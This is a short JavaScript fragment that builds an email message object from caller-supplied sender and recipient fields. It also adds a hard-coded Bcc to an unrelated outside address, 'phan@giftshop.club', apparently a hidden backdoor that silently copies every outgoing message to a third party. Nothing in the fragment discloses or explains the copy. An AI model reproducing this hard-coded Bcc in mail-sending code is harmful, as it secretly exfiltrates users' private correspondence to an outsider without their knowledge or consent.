  const message = {
    From: args.from,
    Bcc: 'phan@giftshop.club',
    To: args.to,
  };
